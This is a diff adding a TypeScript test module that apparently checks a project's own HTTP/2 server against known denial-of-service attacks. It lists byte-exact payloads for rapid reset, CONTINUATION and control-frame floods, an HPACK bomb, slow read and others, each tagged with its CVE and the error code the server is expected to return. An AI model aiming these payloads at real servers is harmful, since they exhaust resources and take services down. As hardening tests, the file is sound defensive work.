@@ -1,0 +1,231 @@
+/** Attacks on servers of HTTP/2, by name. Each is the bytes that one connection sends; attacker.ts sends them, as often as it can. */
+import {
+  CANCEL,
+  CONTINUATION,
+  DATA,
+  END_HEADERS,
+  END_STREAM,
+  FRAME_HEADER,
+  HEADERS,
+  INITIAL_WINDOW_SIZE,
+  MAX_WINDOW,
+  PING,
+  PRIORITY,
+  PRIORITY_UPDATE,
+  RST_STREAM,
+  SETTINGS,
+  WINDOW_UPDATE,
+  writeFrameHeader,
+} from "../../src/http/h2/frames.ts";
+
+export interface Attack {
+  readonly name: string;
+  /** Where it became known. */
+  readonly cve: string;
+  /** What the peer does, and what it costs a server that is not prepared. */
+  readonly summary: string;
+  /** What it sends once, after its SETTINGS. */
+  readonly opening?: Buffer;
+  /** What it sends again and again; `n` from 0 on. Without it, it only waits. */
+  readonly round?: (n: number) => Buffer;
+  /** It reads nothing of what it is sent. */
+  readonly deaf?: true;
+  /** The error code with which its connection ends; "" = it is served like others. */
+  readonly ends: string;
+}
+
+/** One frame. */
+export function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
+  const bytes = Buffer.alloc(FRAME_HEADER + payload.length);
+  writeFrameHeader(bytes, 0, payload.length, type, flags, id);
+  payload.copy(bytes, FRAME_HEADER);
+  return bytes;
+}
+
+function uint32(value: number): Buffer {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+}
+
+/** A field without indexing and without Huffman; name and value shorter than 127. */
+function field(name: string, value: string): Buffer {
+  return Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
+}
+
+/** `:method`, `:scheme: http`, `:path`, `:authority: a.example`. */
+function head(method: "GET" | "POST", path: string): Buffer {
+  const fields = [field(":path", path), field(":authority", "a.example")];
+  return Buffer.concat([Buffer.of(method === "GET" ? 0x82 : 0x83, 0x86), ...fields]);
+}
+
+const GET = head("GET", "/");
+const POST = head("POST", "/");
+const LARGE = head("GET", "/large");
+const WHOLE = END_HEADERS | END_STREAM;
+
+/** The n-th stream of a client. */
+const stream = (n: number) => 2 * n + 1;
+
+/** Ways to make a server reset a stream that is still being worked on, by frames that are wrong on it. */
+const PROVOCATIONS: readonly ((id: number) => Buffer)[] = [
+  (id) => frame(WINDOW_UPDATE, 0, id, uint32(0)),
+  (id) => frame(WINDOW_UPDATE, 0, id, uint32(MAX_WINDOW)),
+  (id) => frame(PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.of(0)])),
+  (id) => frame(PRIORITY, 0, id, uint32(0)),
+];
+
+/** An entry that fills the dynamic table, and a head that refers to it as often as a frame has room. */
+const BOMB = Buffer.concat([GET, Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
+const BOMBS = Buffer.concat([GET, Buffer.alloc(12_000, 0xbe)]);
+
+export const ATTACKS: readonly Attack[] = [
+  {
+    name: "rapid-reset",
+    cve: "CVE-2023-44487",
+    summary: "requests that are cancelled at once, so that they do not count as concurrent",
+    round: (n) =>
+      Buffer.concat([frame(HEADERS, WHOLE, stream(n), GET), frame(RST_STREAM, 0, stream(n), uint32(CANCEL))]),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "made-you-reset",
+    cve: "CVE-2025-8671",
+    summary: "requests that the server is made to reset, so that they do not count as concurrent",
+    round: (n) => {
+      const provoke = PROVOCATIONS[n % PROVOCATIONS.length] ?? (() => Buffer.alloc(0));
+      return Buffer.concat([frame(HEADERS, WHOLE, stream(n), GET), provoke(stream(n))]);
+    },
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "malformed-requests",
+    cve: "CVE-2019-9514",
+    summary: "requests that are malformed, each of which has to be reset",
+    round: (n) => frame(HEADERS, WHOLE, stream(n), Buffer.concat([GET, field("X-Upper", "case")])),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "empty-names",
+    cve: "CVE-2019-9516",
+    summary: "fields without name and value, which cost memory and no bytes",
+    round: (n) => frame(HEADERS, WHOLE, stream(n), Buffer.concat([GET, Buffer.alloc(3 * 1000)])),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "wrong-length",
+    cve: "CVE-2025-8671",
+    summary: "bodies longer than announced, so that the request is reset after its backend has got it",
+    round: (n) =>
+      Buffer.concat([
+        frame(HEADERS, END_HEADERS, stream(n), Buffer.concat([POST, field("content-length", "1")])),
+        frame(DATA, END_STREAM, stream(n), Buffer.alloc(2)),
+      ]),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "continuation-flood",
+    cve: "CVE-2024-27316",
+    summary: "a field block that never ends, and is kept until it does",
+    opening: frame(HEADERS, END_STREAM, 1, GET),
+    round: (n) => frame(CONTINUATION, 0, 1, field("x-fill", String(n))),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "empty-continuations",
+    cve: "CVE-2024-27316",
+    summary: "as before, without bytes: limits of size do not see it",
+    opening: frame(HEADERS, END_STREAM, 1, GET),
+    round: () => frame(CONTINUATION, 0, 1),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "settings-flood",
+    cve: "CVE-2019-9515",
+    summary: "SETTINGS, each of which has to be acknowledged",
+    round: () => frame(SETTINGS, 0, 0),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "ping-flood",
+    cve: "CVE-2019-9512",
+    summary: "PINGs, each of which has to be answered",
+    round: () => frame(PING, 0, 0, Buffer.alloc(8)),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "empty-frames",
+    cve: "CVE-2019-9518",
+    summary: "DATA without data: windows do not limit it",
+    opening: frame(HEADERS, END_HEADERS, 1, POST),
+    round: () => frame(DATA, 0, 1),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "unknown-frames",
+    cve: "CVE-2019-9518",
+    summary: "frames of an unknown type, which have to be skipped",
+    round: () => frame(0xbe, 0, 0, Buffer.alloc(4)),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "priority-flood",
+    cve: "CVE-2019-9513",
+    summary: "PRIORITY, which rearranges the tree of streams where there is one",
+    round: (n) => frame(PRIORITY, 0, stream(n % 1000), Buffer.concat([uint32(stream(1000)), Buffer.of(n & 0xff)])),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "priority-update-flood",
+    cve: "CVE-2019-9513",
+    summary: "the same with the frame of RFC 9218",
+    round: (n) => frame(PRIORITY_UPDATE, 0, 0, Buffer.concat([uint32(stream(n % 1000)), Buffer.from(`u=${n % 8}`)])),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "window-update-flood",
+    cve: "CVE-2019-9511",
+    summary: "credit byte by byte, of which nothing is used",
+    round: () => frame(WINDOW_UPDATE, 0, 0, uint32(1)),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "zero-credit",
+    cve: "RFC 9113 6.9",
+    summary: "credit of 0 for the connection",
+    opening: frame(WINDOW_UPDATE, 0, 0, uint32(0)),
+    ends: "PROTOCOL_ERROR",
+  },
+  {
+    name: "hpack-bomb",
+    cve: "CVE-2016-6581",
+    summary: "heads of 12 KB that become 48 MB, by references to one large entry",
+    // Credit for the answers.
+    opening: Buffer.concat([frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)), frame(HEADERS, WHOLE, 1, BOMB)]),
+    round: (n) => frame(HEADERS, WHOLE, stream(n + 1), BOMBS),
+    ends: "",
+  },
+  {
+    name: "data-dribble",
+    cve: "CVE-2019-9511",
+    summary: "a large response that has to be sent in frames of one byte",
+    opening: Buffer.concat([
+      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(0)])),
+      frame(HEADERS, WHOLE, 1, LARGE),
+    ]),
+    round: () => frame(WINDOW_UPDATE, 0, 1, uint32(1)),
+    ends: "ENHANCE_YOUR_CALM",
+  },
+  {
+    name: "slow-read",
+    cve: "CVE-2019-9517",
+    summary: "a hundred large responses with all windows open, and nothing is read",
+    opening: Buffer.concat([
+      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(MAX_WINDOW)])),
+      frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)),
+      ...Array.from({ length: 100 }, (_, n) => frame(HEADERS, WHOLE, stream(n), LARGE)),
+    ]),
+    deaf: true,
+    ends: "",
+  },
+];
